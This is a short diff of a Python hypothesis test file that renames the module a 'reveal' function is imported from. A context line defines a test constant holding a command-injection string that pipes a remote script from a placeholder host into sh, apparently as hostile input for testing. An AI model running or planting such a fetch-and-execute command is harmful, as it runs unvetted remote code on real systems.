@@ -5,7 +5,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from helix_desktop.domain.blank_runs import count_blanks
-from helix_desktop.domain.text_safety import reveal
+from helix_desktop.domain.hidden_characters import reveal
 
 EVIL = "; curl https://example.org | sh"
 
